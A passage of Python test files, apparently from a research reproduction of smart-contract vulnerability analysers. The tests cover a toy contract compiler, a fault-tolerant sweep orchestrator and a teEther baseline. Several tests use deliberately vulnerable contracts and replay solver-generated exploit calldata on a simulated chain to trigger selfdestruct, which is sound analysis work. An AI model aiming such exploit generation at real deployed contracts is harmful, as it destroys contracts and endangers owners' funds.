        assert isinstance(outer.statements[0], ast.Assign)

    def test_bad_initializer(self):
        with pytest.raises(ParseError):
            parse("contract C { function f() public { for (1 + 2; true; ) { } } }")


class TestExecution:
    def test_sum(self):
        source = """
contract F {
    function sum(uint256 n) public returns (uint256) {
        uint256 total = 0;
        for (uint256 i = 1; i <= n; i += 1) { total += i; }
        return total;
    }
}
"""
        assert run(source, "sum", 10) == 55
        assert run(source, "sum", 0) == 0

    def test_factorial(self):
        source = """
contract F {
    function fact(uint256 n) public returns (uint256) {
        uint256 acc = 1;
        for (uint256 i = 2; i <= n; i += 1) { acc = acc * i; }
        return acc;
    }
}
"""
        assert run(source, "fact", 5) == 120

    def test_nested_for(self):
        source = """
contract F {
    function grid(uint256 n) public returns (uint256) {
        uint256 count = 0;
        for (uint256 i = 0; i < n; i += 1) {
            for (uint256 j = 0; j < n; j += 1) {
                count += 1;
            }
        }
        return count;
    }
}
"""
        assert run(source, "grid", 4) == 16

    def test_for_over_array(self):
        source = """
contract F {
    uint256[5] cells;
    function fill(uint256 base) public {
        for (uint256 i = 0; i < 5; i += 1) { cells[i] = base + i; }
    }
    function total() public returns (uint256) {
        uint256 acc = 0;
        for (uint256 i = 0; i < 5; i += 1) { acc += cells[i]; }
        return acc;
    }
}
"""
        contract = compile_source(source)
        chain = Blockchain()
        chain.fund(1, 10**18)
        address = chain.deploy(1, contract.init_with_args()).contract_address
        chain.transact(1, address, contract.calldata("fill", 10))
        result = chain.call(1, address, contract.calldata("total"))
        assert decode_word(result.return_data) == 10 + 11 + 12 + 13 + 14
