"""Content-addressed task coalescing and the cross-run result cache.

The paper's scalability hinges on deduplication (§6.1: ~38M deployed
contracts collapse to ~240K unique bytecodes).  These tests pin the sweep
path that reproduces it: duplicate submissions (same ``sha256(bytecode) +
config fingerprint`` identity) run once and fan out to the whole group,
the outcome — success, analysis error, or harness fault — propagates to
every member with exactly one retry budget per group, the disk-backed
:class:`ResultCache` resolves repeated sweeps without analysis, and the
``--no-dedup`` escape hatch plus a Hypothesis property guarantee the
deduped sweep is byte-identical (modulo timings) to the naive one,
including journal replay under ``--resume`` from every truncation point.
"""

import dataclasses
import json
import os

import pytest
from hypothesis import given, settings, strategies as st

from repro import api
from repro.core.orchestrator import (
    FaultPlan,
    OrchestratorOptions,
    ResultCache,
    journal_key,
    run_sweep,
    sweep_fingerprint,
)
from repro.corpus import generate_corpus, generate_mainnet

VOLATILE_FIELDS = {"elapsed_seconds", "stage_seconds", "cache_hits", "cache_misses"}


@pytest.fixture(scope="module")
def uniques():
    return [contract.runtime for contract in generate_corpus(6, seed=3)]


@pytest.fixture(scope="module")
def duplicated(uniques):
    # 13 submissions over 6 uniques; duplicates interleaved, not clustered.
    return [
        uniques[0], uniques[1], uniques[0], uniques[2], uniques[3],
        uniques[1], uniques[4], uniques[0], uniques[5], uniques[2],
        uniques[5], uniques[1], uniques[0],
    ]


def _stable(summary):
    rows = []
    for entry in summary.entries:
        row = dataclasses.asdict(entry)
        for name in VOLATILE_FIELDS:
            row.pop(name, None)
        rows.append(row)
    return rows


class TestCoalescing:
    def test_counters_and_identity_serial(self, duplicated, uniques):
        naive = api.sweep(duplicated, dedup=False)
        deduped = api.sweep(duplicated)
        assert _stable(naive) == _stable(deduped)
        assert deduped.tasks_total == len(duplicated)
        assert deduped.tasks_unique == len(uniques)
        assert deduped.dedup_hits == len(duplicated) - len(uniques)
        assert naive.dedup_hits == 0
        assert deduped.orchestrator["dispatched"] == len(uniques)
        assert naive.orchestrator["dispatched"] == len(duplicated)

    def test_counters_and_identity_parallel(self, duplicated, uniques):
        naive = api.sweep(duplicated, jobs=2, dedup=False)
        deduped = api.sweep(duplicated, jobs=2)
        assert _stable(naive) == _stable(deduped)
        assert deduped.tasks_unique == len(uniques)
        assert deduped.dedup_hits == len(duplicated) - len(uniques)

    def test_indices_preserved_in_order(self, duplicated):
        summary = api.sweep(duplicated)
        assert [entry.index for entry in summary.entries] == list(
            range(len(duplicated))
        )

    def test_dedup_hit_events_name_representative(self, duplicated):
        events = []
        api.sweep(duplicated, on_event=events.append)
        hits = [event for event in events if event["event"] == "dedup_hit"]
        assert len(hits) == 7
        # duplicated[2] is a copy of duplicated[0]: index 0 represents it.
        by_index = {event["index"]: event["representative"] for event in hits}
        assert by_index[2] == 0
        assert by_index[12] == 0
        assert by_index[10] == 8

    def test_battery_identity_spans_all_configs(self, duplicated):
        configs = [api.AnalysisConfig(), api.AnalysisConfig(model_guards=False)]
        naive = api.battery(duplicated, configs, dedup=False)
        deduped = api.battery(duplicated, configs)
        for naive_summary, dedup_summary in zip(naive, deduped):
            assert _stable(naive_summary) == _stable(dedup_summary)
        assert deduped[0].dedup_hits == 7


class TestGroupFaultPropagation:
    def test_crash_propagates_to_whole_group_once(self, duplicated):
        """A crash on the representative charges the whole group one
        outcome: every duplicate reports ``worker_crashed``, but the crash
        and retry machinery ran once — not once per duplicate."""
        # Representative of the uniques[0] group is submission index 0.
        summary = api.sweep(
            duplicated,
            jobs=2,
            options=OrchestratorOptions(fault_plan=FaultPlan(crash_indices=(0,))),
        )
        errored = [entry for entry in summary.entries if entry.error]
        assert sorted(entry.index for entry in errored) == [0, 2, 7, 12]
        assert {entry.error_kind for entry in errored} == {"worker_crashed"}
        assert len({entry.error for entry in errored}) == 1
        assert summary.orchestrator["crashes"] == 1
        assert summary.error_kind_counts() == {"worker_crashed": 4}

    def test_transient_retry_budget_is_per_group(self, duplicated):
        summary = api.sweep(
            duplicated,
            jobs=2,
            options=OrchestratorOptions(
                fault_plan=FaultPlan(transient_failures={0: 2}),
                max_retries=2,
                backoff_seconds=0.01,
            ),
        )
        assert summary.errors == 0
        assert summary.orchestrator["retries"] == 2
        group = [entry for entry in summary.entries if entry.index in (0, 2, 7, 12)]
        assert {entry.attempts for entry in group} == {3}
        others = [entry for entry in summary.entries if entry.index not in (0, 2, 7, 12)]
        assert {entry.attempts for entry in others} == {1}

    def test_no_dedup_restores_per_submission_faults(self, duplicated):
        """The escape hatch really is naive: with dedup off only the
        crashed submission errors, its duplicates analyze normally."""
        summary = api.sweep(
            duplicated,
            jobs=2,
            dedup=False,
            options=OrchestratorOptions(fault_plan=FaultPlan(crash_indices=(0,))),
        )
        errored = [entry.index for entry in summary.entries if entry.error]
        assert errored == [0]


class TestResultCache:
    def _key(self, bytecode, config=None):
        fingerprint = sweep_fingerprint((config or api.AnalysisConfig(),))
        return journal_key(bytecode, fingerprint)

    def test_round_trip_and_counters(self, tmp_path):
        cache = ResultCache(str(tmp_path / "rc"))
        assert cache.get("k") is None
        assert cache.misses == 1
        cache.put("k", [{"index": 0, "kinds": ["x"]}])
        assert cache.get("k") == [{"index": 0, "kinds": ["x"]}]
        assert cache.hits == 1

    def test_put_never_overwrites(self, tmp_path):
        cache = ResultCache(str(tmp_path / "rc"))
        cache.put("k", [{"index": 0}])
        cache.put("k", [{"index": 999}])
        assert cache.get("k") == [{"index": 0}]

    def test_corrupt_and_mismatched_files_read_as_miss(self, tmp_path):
        cache = ResultCache(str(tmp_path / "rc"))
        cache.put("k", [{"index": 0}])
        path = cache._path("k")
        with open(path, "w") as handle:
            handle.write("{torn json")
        assert cache.get("k") is None
        with open(path, "w") as handle:
            json.dump({"version": ResultCache.VERSION, "key": "other", "entries": []}, handle)
        assert cache.get("k") is None

    def test_warm_sweep_resolves_every_identity(self, duplicated, uniques, tmp_path):
        cache_dir = str(tmp_path / "rc")
        cold = api.sweep(duplicated, result_cache=cache_dir)
        warm = api.sweep(duplicated, result_cache=cache_dir)
        assert cold.result_cache_hits == 0
        assert warm.result_cache_hits == len(uniques)
        assert warm.orchestrator["dispatched"] == 0
        assert _stable(cold) == _stable(warm)

    def test_config_change_misses(self, duplicated, tmp_path):
        cache_dir = str(tmp_path / "rc")
        api.sweep(duplicated, result_cache=cache_dir)
        other = api.sweep(
            duplicated, api.AnalysisConfig(model_guards=False), result_cache=cache_dir
        )
        assert other.result_cache_hits == 0

    def test_harness_faults_never_cached(self, duplicated, tmp_path):
        cache_dir = str(tmp_path / "rc")
        api.sweep(
            duplicated,
            jobs=2,
            result_cache=cache_dir,
            options=OrchestratorOptions(fault_plan=FaultPlan(crash_indices=(0,))),
        )
        # Re-sweeping resolves the clean identities from disk but re-runs
        # the previously crashed group (now clean).
        again = api.sweep(duplicated, jobs=2, result_cache=cache_dir)
        assert again.errors == 0
        assert again.result_cache_hits == 5
        key = self._key(duplicated[0])
        assert ResultCache(cache_dir).get(key) is not None  # stored by clean run


class TestBatchedDispatch:
    def test_chunked_dispatch_matches_single(self, duplicated):
        single = api.sweep(
            duplicated, jobs=2, options=OrchestratorOptions(dispatch_chunk=1)
        )
        chunked = api.sweep(
            duplicated, jobs=2, options=OrchestratorOptions(dispatch_chunk=4)
        )
        assert _stable(single) == _stable(chunked)
        assert chunked.orchestrator["ipc_batches"] <= single.orchestrator["ipc_batches"]

    def test_crash_mid_batch_costs_one_task(self, uniques):
        # Eight unique tasks in batches of 4: the crash charges only the
        # in-flight head task; queued batch-mates are requeued and finish.
        bytecodes = (uniques * 2)[:8]
        summary = api.sweep(
            bytecodes,
            jobs=2,
            dedup=False,
            options=OrchestratorOptions(
                dispatch_chunk=4, fault_plan=FaultPlan(crash_indices=(2,))
            ),
        )
        errored = [entry.index for entry in summary.entries if entry.error]
        assert errored == [2]
        assert sum(1 for entry in summary.entries if not entry.error) == 7

    def test_auto_chunk_scales_with_corpus(self, uniques):
        from repro.core.orchestrator import Orchestrator

        orch = Orchestrator.__new__(Orchestrator)
        orch.options = OrchestratorOptions()
        orch.jobs = 2
        assert orch._effective_chunk(10) == 1
        assert orch._effective_chunk(600) == 32
        orch.options = OrchestratorOptions(recycle_after=8)
        assert orch._effective_chunk(600) == 8


class TestMainnetGenerator:
    def test_deterministic_and_manifest_complete(self):
        first = generate_mainnet(60, unique=6, seed=11, duplication_seed=5)
        second = generate_mainnet(60, unique=6, seed=11, duplication_seed=5)
        assert first.assignments == second.assignments
        assert first.bytecodes() == second.bytecodes()
        manifest = first.manifest
        for key in (
            "total", "unique", "unique_bytecodes", "seed", "duplication_seed",
            "zipf_s", "dedup_ratio", "duplicate_rate", "template_mix",
        ):
            assert key in manifest, key
        assert manifest["total"] == 60
        assert manifest["duplicate_rate"] == pytest.approx(0.9)
        assert sum(manifest["template_mix"].values()) == 6

    def test_duplication_seed_independent_of_content_seed(self):
        base = generate_mainnet(60, unique=6, seed=11, duplication_seed=5)
        redraw = generate_mainnet(60, unique=6, seed=11, duplication_seed=6)
        assert [c.runtime for c in base.uniques] == [c.runtime for c in redraw.uniques]
        assert base.assignments != redraw.assignments

    def test_every_unique_deployed_at_least_once(self):
        net = generate_mainnet(40, unique=8, seed=11)
        assert set(net.assignments) == set(range(8))

    def test_validation(self):
        with pytest.raises(ValueError):
            generate_mainnet(0)
        with pytest.raises(ValueError):
            generate_mainnet(5, unique=9)


class TestDedupEquivalenceProperty:
    @settings(max_examples=6, deadline=None)
    @given(cut=st.integers(min_value=0, max_value=6), dup_seed=st.integers(0, 3))
    def test_dedup_naive_and_resume_converge(self, cut, dup_seed, tmp_path_factory):
        """Property: over any duplicated corpus, the deduped sweep equals
        the naive sweep (stable fields), and resuming the deduped sweep
        from any journal truncation point converges to the same report."""
        net = generate_mainnet(14, unique=6, seed=11, duplication_seed=dup_seed)
        bytecodes = net.bytecodes()
        naive = run_sweep(
            bytecodes, (api.AnalysisConfig(),),
            options=OrchestratorOptions(dedup=False),
        )[0]
        path = str(tmp_path_factory.mktemp("dedup") / "sweep.jsonl")
        deduped = run_sweep(
            bytecodes, (api.AnalysisConfig(),),
            options=OrchestratorOptions(journal_path=path),
        )[0]
        assert _stable(naive) == _stable(deduped)

        lines = open(path).read().splitlines(True)
        header, rows = lines[0], lines[1:]
        assert len(rows) == deduped.tasks_unique  # one journal row per identity
        with open(path, "w") as handle:
            handle.writelines([header] + rows[:cut])
        resumed = run_sweep(
            bytecodes, (api.AnalysisConfig(),),
            options=OrchestratorOptions(journal_path=path, resume=True),
        )[0]
        assert _stable(resumed) == _stable(deduped)
        assert resumed.orchestrator["dispatched"] == deduped.tasks_unique - min(
            cut, deduped.tasks_unique
        )
