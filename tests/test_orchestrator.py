"""Fault tolerance of the supervised sweep orchestrator.

The paper's whole-chain run (§6) keeps 45 analysis processes busy for
days; the harness must survive worker crashes, hangs, and operator
restarts without losing more than the one contract at fault.  These tests
inject each failure mode via the test-only :class:`FaultPlan` worker hook
and assert the documented taxonomy (``worker_crashed`` /
``watchdog_killed`` / ``task_failed``), retry semantics, and checkpoint
journal resume behavior — including the byte-identical report guarantee
for a sweep resumed from its journal.
"""

import json

import pytest
from hypothesis import given, settings, strategies as st

from repro import api
from repro.core.orchestrator import (
    FaultPlan,
    OrchestratorOptions,
    SweepJournal,
    journal_key,
    resolve_mp_context,
    run_sweep,
    sweep_fingerprint,
)
from repro.core.report import ContractReport, SweepReport
from repro.corpus import generate_corpus


@pytest.fixture(scope="module")
def corpus():
    return generate_corpus(10, seed=3)


@pytest.fixture(scope="module")
def bytecodes(corpus):
    return [contract.runtime for contract in corpus]


def _report(corpus, summary):
    report = SweepReport()
    for contract, entry in zip(corpus, summary.entries):
        report.add(
            ContractReport.from_entry(
                entry, name=contract.name, bytecode_size=len(contract.runtime)
            )
        )
    return report


def _stable_fields(report_json: str):
    """Per-contract fields that must survive a resume (timings and
    per-process cache counters legitimately differ across runs)."""
    payload = json.loads(report_json)
    volatile = {"elapsed_seconds", "stage_seconds", "cache_hits", "cache_misses"}
    return [
        {key: value for key, value in contract.items() if key not in volatile}
        for contract in payload["contracts"]
    ]


class TestCrashIsolation:
    def test_crash_costs_exactly_one_contract(self, bytecodes):
        summary = api.sweep(
            bytecodes,
            jobs=2,
            options=OrchestratorOptions(
                fault_plan=FaultPlan(crash_indices=(3,))
            ),
        )
        assert summary.total == len(bytecodes)
        errored = [entry for entry in summary.entries if entry.error]
        assert [entry.index for entry in errored] == [3]
        assert errored[0].error_kind == "worker_crashed"
        assert "exit code 13" in errored[0].error
        assert summary.orchestrator["crashes"] == 1
        # Every other contract completed normally.
        assert sum(1 for entry in summary.entries if not entry.error) == 9

    def test_crash_exit_code_recorded(self, bytecodes):
        summary = api.sweep(
            bytecodes[:4],
            jobs=2,
            options=OrchestratorOptions(
                fault_plan=FaultPlan(crash_indices=(1,), crash_exit_code=77)
            ),
        )
        errored = [entry for entry in summary.entries if entry.error]
        assert len(errored) == 1
        assert "exit code 77" in errored[0].error

    def test_multiple_crashes_each_cost_one(self, bytecodes):
        summary = api.sweep(
            bytecodes,
            jobs=2,
            options=OrchestratorOptions(
                fault_plan=FaultPlan(crash_indices=(2, 6))
            ),
        )
        errored = sorted(entry.index for entry in summary.entries if entry.error)
        assert errored == [2, 6]
        assert summary.orchestrator["crashes"] == 2
        assert summary.error_kind_counts() == {"worker_crashed": 2}


class TestWatchdog:
    def test_hang_is_killed_and_charged_once(self, bytecodes):
        summary = api.sweep(
            bytecodes,
            jobs=2,
            options=OrchestratorOptions(
                fault_plan=FaultPlan(hang_indices=(5,), hang_seconds=60.0),
                watchdog_seconds=0.5,
            ),
        )
        assert summary.total == len(bytecodes)
        errored = [entry for entry in summary.entries if entry.error]
        assert [entry.index for entry in errored] == [5]
        assert errored[0].error_kind == "watchdog_killed"
        assert summary.orchestrator["watchdog_kills"] == 1
        assert sum(1 for entry in summary.entries if not entry.error) == 9

    def test_watchdog_defaults_to_budget_times_grace(self):
        from repro.core.analysis import AnalysisConfig

        options = OrchestratorOptions(grace_factor=4.0)
        assert options.effective_watchdog(
            AnalysisConfig(timeout_seconds=30.0)
        ) == pytest.approx(120.0)
        assert OrchestratorOptions(watchdog_seconds=7.0).effective_watchdog(
            AnalysisConfig(timeout_seconds=30.0)
        ) == pytest.approx(7.0)


class TestRetries:
    def test_transient_failures_retried_to_success(self, bytecodes):
        on_events = []
        summary = api.sweep(
            bytecodes,
            jobs=2,
            on_event=on_events.append,
            options=OrchestratorOptions(
                fault_plan=FaultPlan(transient_failures={2: 2}),
                max_retries=2,
                backoff_seconds=0.01,
            ),
        )
        assert summary.errors == 0
        assert summary.orchestrator["retries"] == 2
        entry = next(e for e in summary.entries if e.index == 2)
        assert entry.attempts == 3
        assert sum(1 for event in on_events if event["event"] == "retry") == 2

    def test_retries_exhausted_becomes_task_failed(self, bytecodes):
        summary = api.sweep(
            bytecodes,
            jobs=2,
            max_retries=1,
            options=OrchestratorOptions(
                fault_plan=FaultPlan(transient_failures={2: 9}),
                backoff_seconds=0.01,
            ),
        )
        errored = [entry for entry in summary.entries if entry.error]
        assert [entry.index for entry in errored] == [2]
        assert errored[0].error_kind == "task_failed"
        assert "TransientTaskError" in errored[0].error
        assert errored[0].attempts == 2

    def test_deterministic_analysis_errors_not_retried(self, bytecodes):
        from repro.core.analysis import AnalysisConfig

        # lift-error entries come back inside *successful* rows: the task
        # completed, the analysis failed — no retry, attempts == 1.
        summary = api.sweep(
            bytecodes[:4], AnalysisConfig(max_lift_states=2), jobs=2
        )
        assert summary.errors == 4
        for entry in summary.entries:
            assert entry.error_kind == "lift-error"
            assert entry.attempts == 1
        assert summary.orchestrator["retries"] == 0


class TestRecycling:
    def test_workers_recycle_after_n_tasks(self, bytecodes):
        # 3x the corpus so retirements can't all race the sweep's own
        # completion (recycle messages sent just before the last results
        # may go unread once every task is accounted for).
        tasks = bytecodes * 3
        summary = api.sweep(
            tasks,
            jobs=2,
            options=OrchestratorOptions(recycle_after=2),
        )
        assert summary.errors == 0
        assert summary.total == len(tasks)
        # 30 tasks over workers retiring every 2 tasks: at least 3 retired.
        assert summary.orchestrator["recycles"] >= 3
        assert [entry.index for entry in summary.entries] == list(
            range(len(tasks))
        )


class TestExecutors:
    def test_parallel_matches_serial(self, bytecodes):
        serial = api.sweep(bytecodes)
        parallel = api.sweep(bytecodes, jobs=3)
        assert [e.kinds for e in serial.entries] == [
            e.kinds for e in parallel.entries
        ]
        assert serial.orchestrator["mode"] == "serial"
        assert parallel.orchestrator["mode"] == "orchestrator"

    def test_pool_executor_matches(self, bytecodes):
        pool = api.sweep(bytecodes, jobs=2, executor="pool")
        serial = api.sweep(bytecodes)
        assert [e.kinds for e in pool.entries] == [
            e.kinds for e in serial.entries
        ]
        assert pool.orchestrator["mode"] == "pool"

    def test_pool_rejects_journal(self, bytecodes, tmp_path):
        with pytest.raises(ValueError):
            api.sweep(
                bytecodes,
                jobs=2,
                executor="pool",
                journal=str(tmp_path / "j.jsonl"),
            )

    def test_unknown_executor_rejected(self, bytecodes):
        with pytest.raises(ValueError):
            api.sweep(bytecodes, jobs=2, executor="threads")

    def test_spawn_context_smoke(self, bytecodes):
        summary = api.sweep(
            bytecodes[:4], jobs=2, mp_context="spawn"
        )
        assert summary.errors == 0
        assert summary.total == 4

    def test_resolve_mp_context_named(self):
        assert resolve_mp_context("spawn").get_start_method() == "spawn"
        with pytest.raises(ValueError):
            resolve_mp_context("no-such-method")

    def test_battery_through_orchestrator(self, bytecodes):
        from repro.core.analysis import AnalysisConfig

        configs = [AnalysisConfig(), AnalysisConfig(model_guards=False)]
        summaries = api.battery(bytecodes, configs, jobs=2)
        assert len(summaries) == 2
        assert summaries[1].flagged >= summaries[0].flagged
        for summary in summaries:
            assert summary.total == len(bytecodes)

    def test_heartbeat_events(self, bytecodes):
        events = []
        summary = api.sweep(
            bytecodes,
            jobs=2,
            on_event=events.append,
            options=OrchestratorOptions(heartbeat_seconds=0.0),
        )
        beats = [event for event in events if event["event"] == "heartbeat"]
        assert beats and summary.orchestrator["heartbeats"] == len(beats)
        assert {"completed", "total", "in_flight", "throughput"} <= set(beats[-1])


class TestJournalResume:
    def test_resume_from_complete_journal_is_byte_identical(
        self, corpus, bytecodes, tmp_path
    ):
        path = str(tmp_path / "sweep.jsonl")
        first = api.sweep(bytecodes, jobs=2, journal=path)
        second = api.sweep(bytecodes, jobs=2, journal=path, resume=True)
        assert second.orchestrator["resumed"] == len(bytecodes)
        assert second.orchestrator["dispatched"] == 0
        left, right = _report(corpus, first), _report(corpus, second)
        left.orchestrator = right.orchestrator = {}
        assert left.to_json() == right.to_json()

    def test_truncated_journal_reexecutes_only_remainder(
        self, corpus, bytecodes, tmp_path
    ):
        path = str(tmp_path / "sweep.jsonl")
        full = api.sweep(bytecodes, jobs=2, journal=path)
        lines = open(path).read().splitlines(True)
        # Simulate a kill mid-write: drop 3 rows and leave a torn line.
        with open(path, "w") as handle:
            handle.writelines(lines[:-3])
            handle.write('{"key": "torn')
        resumed = api.sweep(bytecodes, jobs=2, journal=path, resume=True)
        assert resumed.orchestrator["resumed"] == len(bytecodes) - 3
        assert resumed.orchestrator["dispatched"] == 3
        assert _stable_fields(_report(corpus, full).to_json()) == _stable_fields(
            _report(corpus, resumed).to_json()
        )

    def test_journal_discarded_on_config_change(self, bytecodes, tmp_path):
        from repro.core.analysis import AnalysisConfig

        path = str(tmp_path / "sweep.jsonl")
        api.sweep(bytecodes, journal=path)
        resumed = api.sweep(
            bytecodes,
            AnalysisConfig(model_guards=False),
            journal=path,
            resume=True,
        )
        assert resumed.orchestrator["resumed"] == 0

    def test_budget_change_invalidates_journal(self, bytecodes, tmp_path):
        from repro.core.analysis import AnalysisConfig

        path = str(tmp_path / "sweep.jsonl")
        api.sweep(bytecodes, AnalysisConfig(timeout_seconds=120.0), journal=path)
        resumed = api.sweep(
            bytecodes,
            AnalysisConfig(timeout_seconds=60.0),
            journal=path,
            resume=True,
        )
        assert resumed.orchestrator["resumed"] == 0

    def test_harness_faults_are_not_journaled(self, bytecodes, tmp_path):
        path = str(tmp_path / "sweep.jsonl")
        crashed = api.sweep(
            bytecodes,
            jobs=2,
            journal=path,
            options=OrchestratorOptions(
                fault_plan=FaultPlan(crash_indices=(3,))
            ),
        )
        assert crashed.entries[3].error_kind == "worker_crashed"
        # The resumed run retries the crashed contract (no fault plan now)
        # and it succeeds.
        resumed = api.sweep(bytecodes, jobs=2, journal=path, resume=True)
        assert resumed.orchestrator["resumed"] == len(bytecodes) - 1
        assert resumed.orchestrator["dispatched"] == 1
        assert resumed.errors == 0

    def test_journal_key_covers_bytecode_and_config(self, bytecodes):
        from repro.core.analysis import AnalysisConfig

        fp_a = sweep_fingerprint((AnalysisConfig(),))
        fp_b = sweep_fingerprint((AnalysisConfig(timeout_seconds=60.0),))
        assert fp_a != fp_b
        assert journal_key(bytecodes[0], fp_a) != journal_key(bytecodes[1], fp_a)
        assert journal_key(bytecodes[0], fp_a) != journal_key(bytecodes[0], fp_b)

    def test_journal_load_tolerates_garbage_then_stops(self, tmp_path):
        from repro.core.batch import BatchEntry

        path = str(tmp_path / "sweep.jsonl")
        fingerprint = "fp"
        journal = SweepJournal(path, fingerprint)
        entry = BatchEntry(
            index=0, kinds=(), error=None, elapsed_seconds=0.0, statement_count=0
        )
        journal.record("abc:fp", 0, (entry,))
        journal.close()
        with open(path, "a") as handle:
            handle.write("{not json")
        reloaded = SweepJournal(path, fingerprint, resume=True)
        reloaded.close()
        assert "abc:fp" in reloaded.completed


class TestResumeProperty:
    @settings(max_examples=8, deadline=None)
    @given(cut=st.integers(min_value=0, max_value=8))
    def test_resume_from_any_interruption_point(self, cut, tmp_path_factory):
        """Property: however many journal rows survive an interruption, the
        resumed sweep re-executes exactly the remainder and converges to
        the same verdicts as an uninterrupted run."""
        corpus = generate_corpus(8, seed=11)
        bytecodes = [contract.runtime for contract in corpus]
        path = str(tmp_path_factory.mktemp("resume") / "sweep.jsonl")
        full = run_sweep(
            bytecodes,
            (api.AnalysisConfig(),),
            options=OrchestratorOptions(journal_path=path),
        )[0]
        lines = open(path).read().splitlines(True)
        header, rows = lines[0], lines[1:]
        with open(path, "w") as handle:
            handle.writelines([header] + rows[:cut])
        resumed = run_sweep(
            bytecodes,
            (api.AnalysisConfig(),),
            options=OrchestratorOptions(journal_path=path, resume=True),
        )[0]
        assert resumed.orchestrator["resumed"] == cut
        assert resumed.orchestrator["dispatched"] == len(bytecodes) - cut
        assert [e.kinds for e in resumed.entries] == [
            e.kinds for e in full.entries
        ]
        assert [e.error for e in resumed.entries] == [
            e.error for e in full.entries
        ]
