"""teEther baseline: symbolic machine, solver, exploit generation."""

import pytest

from repro.baselines import TeEtherAnalysis
from repro.baselines.teether import (
    Const,
    Op,
    Solver,
    Symbol,
    make_op,
    symbols_in,
    _evaluate,
)
from repro.chain import Blockchain
from repro.minisol import compile_source


class TestSymbolicValues:
    def test_constant_folding(self):
        assert make_op("ADD", Const(2), Const(3)) == Const(5)
        assert make_op("ISZERO", Const(0)) == Const(1)

    def test_symbolic_stays_symbolic(self):
        result = make_op("ADD", Symbol("cd_4"), Const(1))
        assert isinstance(result, Op)

    def test_symbols_in(self):
        expr = make_op("ADD", Symbol("cd_4"), make_op("EQ", Symbol("CALLER"), Const(1)))
        assert symbols_in(expr) == {"cd_4", "CALLER"}

    def test_evaluate_under_assignment(self):
        expr = make_op("ADD", Symbol("cd_4"), Const(1))
        assert _evaluate(expr, {"cd_4": 41}) == 42
        assert _evaluate(expr, {}) is None


class TestSolver:
    def test_simple_equality(self):
        solver = Solver()
        constraints = [(make_op("EQ", Symbol("cd_4"), Const(99)), True)]
        assignment = solver.solve(constraints)
        assert assignment["cd_4"] == 99

    def test_iszero_flips_polarity(self):
        solver = Solver()
        constraints = [
            (make_op("ISZERO", make_op("EQ", Symbol("cd_4"), Const(5))), False)
        ]
        assignment = solver.solve(constraints)
        assert assignment["cd_4"] == 5

    def test_dispatcher_shr_inversion(self):
        solver = Solver()
        selector = 0x26E69F3
        constraints = [
            (
                make_op("EQ", make_op("SHR", Const(224), Symbol("cd_0")), Const(selector)),
                True,
            )
        ]
        assignment = solver.solve(constraints)
        assert assignment["cd_0"] >> 224 == selector

    def test_caller_fixed_to_attacker(self):
        solver = Solver(attacker=0xABC)
        constraints = [(make_op("EQ", Symbol("CALLER"), Const(0xABC)), True)]
        assert solver.solve(constraints) is not None

    def test_caller_must_match_storage_owner_unsat(self):
        solver = Solver(attacker=0xABC)
        constraints = [(make_op("EQ", Symbol("CALLER"), Const(0xDEF)), True)]
        assert solver.solve(constraints) is None

    def test_disequality(self):
        solver = Solver()
        constraints = [(make_op("EQ", Symbol("cd_4"), Const(7)), False)]
        assignment = solver.solve(constraints)
        assert assignment["cd_4"] != 7

    def test_conjunction_via_and(self):
        solver = Solver()
        constraint = make_op(
            "AND",
            make_op("EQ", Symbol("cd_4"), Const(1)),
            make_op("EQ", Symbol("cd_36"), Const(2)),
        )
        assignment = solver.solve([(constraint, True)])
        assert assignment["cd_4"] == 1 and assignment["cd_36"] == 2

    def test_ordering_constraint(self):
        solver = Solver()
        constraints = [(make_op("LT", Symbol("cd_4"), Const(10)), True)]
        assignment = solver.solve(constraints)
        assert assignment["cd_4"] < 10

    def test_unsolvable_residual_returns_none(self):
        solver = Solver()
        # SHA3 of a symbol equal to a constant: not invertible.
        constraints = [
            (make_op("EQ", Op("SHA3", Symbol("cd_4")), Const(123)), True)
        ]
        assert solver.solve(constraints) is None


class TestEndToEnd:
    def test_open_selfdestruct_found(self, open_kill_contract):
        result = TeEtherAnalysis().analyze(open_kill_contract.runtime)
        assert "accessible-selfdestruct" in result.kinds()

    def test_owner_guard_blocks_with_initialized_storage(self, safe_contract):
        # Deployed state: owner = deployer (nonzero) != attacker.
        chain = Blockchain()
        chain.fund(0xD, 10**18)
        address = chain.deploy(0xD, safe_contract.init_with_args()).contract_address
        storage = dict(chain.state.account(address).storage)
        result = TeEtherAnalysis().analyze(safe_contract.runtime, storage)
        assert not result.flagged

    def test_uninitialized_owner_is_exploitable_in_fresh_state(self, safe_contract):
        """With all-zero storage the owner check needs CALLER == 0, which the
        attacker cannot satisfy — teEther stays silent (the paper's
        'uninitialized owner' caveat cuts the other way here: owner is the
        zero address and our attacker address is fixed nonzero)."""
        result = TeEtherAnalysis().analyze(safe_contract.runtime)
        assert not result.flagged

    def test_magic_value_solved(self):
        """teEther's strength: it *solves* the magic constant Ethainter-Kill
        can only guess at."""
        source = """
contract C {
    address payout;
    constructor() { payout = msg.sender; }
    function emergency(uint256 code) public {
        require(code == 987654321);
        selfdestruct(payout);
    }
}
"""
        contract = compile_source(source)
        result = TeEtherAnalysis().analyze(contract.runtime)
        assert "accessible-selfdestruct" in result.kinds()
        finding = result.findings[0]
        assert 987654321 in finding.exploit_calldata_words.values()

    def test_exploit_calldata_actually_works(self):
        source = """
contract C {
    address payout;
    constructor() { payout = msg.sender; }
    function emergency(uint256 code) public {
        require(code == 424242);
        selfdestruct(payout);
    }
}
"""
        contract = compile_source(source)
        result = TeEtherAnalysis().analyze(contract.runtime)
        finding = next(f for f in result.findings if f.kind == "accessible-selfdestruct")
        # Reconstruct calldata from the solved words and replay it.
        max_offset = max(finding.exploit_calldata_words)
        calldata = bytearray(max_offset + 32)
        for offset, word in finding.exploit_calldata_words.items():
            calldata[offset : offset + 32] = word.to_bytes(32, "big")
        chain = Blockchain()
        chain.fund(0xD, 10**18)
        address = chain.deploy(0xD, contract.init_with_args()).contract_address
        attacker = TeEtherAnalysis().attacker
        chain.fund(attacker, 10**18)
        receipt = chain.transact(attacker, address, bytes(calldata))
        assert receipt.success
        assert chain.state.is_destroyed(address)

    def test_tainted_selfdestruct_kind(self):
        source = "contract C { function die(address to) public { selfdestruct(to); } }"
        contract = compile_source(source)
        result = TeEtherAnalysis().analyze(contract.runtime)
        assert "tainted-selfdestruct" in result.kinds()

    def test_composite_chain_missed(self, victim_contract):
        """Single-transaction symbolic execution cannot see the
        multi-transaction escalation — the completeness gap vs Ethainter."""
        result = TeEtherAnalysis().analyze(victim_contract.runtime)
        assert not result.flagged

    def test_storage_mediated_miss(self, tainted_sd_storage_contract):
